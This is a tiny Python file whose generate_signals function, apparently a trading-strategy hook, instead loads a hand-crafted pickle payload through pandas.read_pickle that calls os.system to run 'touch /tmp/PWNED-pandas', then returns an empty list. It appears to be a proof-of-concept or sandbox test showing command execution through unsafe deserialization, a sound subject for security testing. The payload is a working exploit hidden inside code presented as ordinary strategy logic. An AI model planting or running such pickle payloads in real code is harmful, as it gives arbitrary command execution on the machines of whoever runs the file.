# pandas unpickles what looks like a file.
import io

import pandas as pd


def generate_signals(data, parameters):
    pd.read_pickle(io.BytesIO(b"cos\nsystem\n(S'touch /tmp/PWNED-pandas'\ntR."))
    return []
